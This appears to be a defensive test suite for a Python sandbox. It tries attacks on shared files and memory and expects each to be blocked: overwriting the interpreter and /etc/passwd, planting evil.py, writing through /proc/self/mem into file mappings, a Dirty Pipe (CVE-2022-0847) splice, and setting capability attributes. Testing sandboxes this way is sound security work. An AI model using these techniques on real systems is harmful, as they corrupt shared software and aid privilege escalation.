"""Attacks on what sandboxes share on the disk: the interpreter, packages, code, and pages of them in memory."""

import ctypes
import mmap
import os
import sys

from .attacker import NOT_RUN, Target, attack, be_dumpable, each, held, in_child

_SHARED = ("/usr/bin/python3", os.__file__, "/opt/pagurus/_pagurus/fork/worker.py", "/opt/env/dep.py", "/etc/passwd")


@attack(gain="another interpreter or library for all who come later", seen="held")
def write_over_the_interpreter(target: Target):
    flags = os.O_WRONLY | os.O_TRUNC
    acts = {path: lambda path=path: os.open(path, flags) for path in (*_SHARED, os.path.realpath(sys.executable))}
    return held(each(**acts), "EROFS", "EACCES", *(["ENOENT"] if target.get("in_zygote") else []))


@attack(gain="a file in a shared folder", seen="EROFS")
def put_files_into_shared_folders(target: Target):
    folders = ("/", "/usr/bin", os.path.dirname(os.__file__), "/opt/env", "/opt/pagurus", "/code", "/etc", "/dev")
    flags = os.O_CREAT | os.O_WRONLY
    seen = each(**{folder: lambda folder=folder: os.open(f"{folder}/evil.py", flags) for folder in folders})
    return "EROFS" if held(seen, "EROFS", "EACCES", "EPERM") == "held" else seen


# A zygote has no folder at all that it may write to.
@attack(gain="to replace, remove or relabel shared files", seen="held", at_import="EACCES")
def replace_remove_and_relabel_shared_files(target: Target):
    path = os.__file__
    with open("/tmp/evil.py", "w") as file:
        file.write("raise SystemExit")
    seen = each(
        rename=lambda: os.rename("/tmp/evil.py", path),
        move=lambda: os.rename(path, path + ".old"),
        unlink=lambda: os.unlink(path),
        chmod=lambda: os.chmod(path, 0o777),
        chown=lambda: os.chown(path, os.getuid(), os.getgid()),
        truncate=lambda: os.truncate(path, 0),
        times=lambda: os.utime(path, (0, 0)),
        attribute=lambda: os.setxattr(path, "user.evil", b"1"),
        link=lambda: os.link(path, os.path.dirname(path) + "/evil.py"),
        symlink=lambda: os.symlink("/tmp/evil.py", os.path.dirname(path) + "/evil.py"),
        mkdir=lambda: os.mkdir(os.path.dirname(path) + "/evil"),
    )
    return held(seen, "EROFS", "EPERM", "EXDEV", "EACCES")


@attack(gain="the file's pages that all sandboxes share", seen="EROFS", at_import="own copy only")
def write_to_a_read_only_private_mapping(target: Target):
    def act():
        be_dumpable()
        with open(os.__file__, "rb") as file:
            before = file.read(64)
            page = mmap.mmap(file.fileno(), 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
        with open("/proc/self/mem", "r+b", buffering=0) as memory:
            memory.seek(_address(page))
            memory.write(b"evil = 1\n#")
        with open(os.__file__, "rb") as file:
            return "own copy only" if file.read(64) == before and page[:4] == b"evil" else "the file changed"

    return in_child(act)


@attack(gain="the same through a shared mapping", seen="EROFS", at_import="held")
def write_to_a_read_only_shared_mapping(target: Target):
    def act():
        be_dumpable()
        with open(os.__file__, "rb") as file:
            page = mmap.mmap(file.fileno(), 4096, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ)
            with open("/proc/self/mem", "r+b", buffering=0) as memory:
                memory.seek(_address(page))
                memory.write(b"evil")

    return held(in_child(act), "EIO", "EFAULT")


@attack(gain="a shared file mapped for writing", seen="EACCES")
def map_shared_files_for_writing(target: Target):
    with open(os.__file__, "rb") as file:
        return each(
            map=lambda: mmap.mmap(file.fileno(), 4096, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ | mmap.PROT_WRITE),
            protect=lambda: _protect(mmap.mmap(file.fileno(), 4096, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ)),
        )


@attack(gain="pages of a file by splicing them into a pipe", seen="own pipe only")
def splice_shared_pages_and_write_over_them(target: Target):
    # the way of CVE-2022-0847: what a pipe holds of a file must not be written back into it
    with open(os.__file__, "rb") as file:
        before = file.read(64)
        reader, writer = os.pipe()
        for _ in range(16):
            os.write(writer, b"x" * 4096)
            os.read(reader, 4096)
        os.splice(file.fileno(), writer, 1, offset_src=0)
        os.write(writer, b"evil" * 8)
        file.seek(0)
        after = file.read(64)
        os.close(reader)
        os.close(writer)
    return "own pipe only" if after == before else "the file changed"


@attack(gain="a lease or an exclusive hold on a shared file", seen="held")
def hold_a_lease_on_shared_files(target: Target):
    F_SETLEASE, F_WRLCK, F_RDLCK = 1024, 1, 0
    import fcntl

    with open(os.__file__, "rb") as file:
        seen = each(
            write=lambda: fcntl.fcntl(file, F_SETLEASE, F_WRLCK),
            read=lambda: fcntl.fcntl(file, F_SETLEASE, F_RDLCK),
            lock=lambda: fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB),
        )
    return held(seen, "EACCES", "EPERM", "EBADF", "EAGAIN", "EINVAL")


@attack(gain="a program that runs as another user", seen="EPERM", at_import=NOT_RUN)
def give_files_away(target: Target):
    with open("/tmp/mine", "w"):
        pass
    return each(
        chown=lambda: os.chown("/tmp/mine", 0, 0),
        capability=lambda: os.setxattr("/tmp/mine", "security.capability", b"\x01\x00\x00\x02" + bytes(16)),
        trusted=lambda: os.setxattr("/tmp/mine", "trusted.overlay.opaque", b"y"),
    )


@attack(gain="a handle that survives its sandbox", seen="held", at_import="EACCES")
def link_own_files_into_shared_places(target: Target):
    with open("/tmp/here", "w"):
        pass
    seen = each(
        code=lambda: os.link("/tmp/here", "/code/evil.py"),
        shm=lambda: os.link("/tmp/here", "/dev/shm/here"),
        by_descriptor=lambda: os.link("/proc/self/exe", "/tmp/exe", follow_symlinks=True),
    )
    return held(seen, "EXDEV", "EROFS", "EPERM")


def _address(page: mmap.mmap) -> int:
    """Where a read-only mapping is: ctypes will not say, the kernel's list does."""
    size = len(page)
    with open("/proc/self/maps") as maps:
        for line in maps:
            words = line.split()
            first, end = (int(text, 16) for text in words[0].split("-"))
            if len(words) > 5 and words[5] == os.__file__ and end - first == size:
                return first
    raise LookupError("the mapping is not in /proc/self/maps")


def _protect(page: mmap.mmap) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mprotect(ctypes.c_void_p(_address(page)), ctypes.c_size_t(4096), 3):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
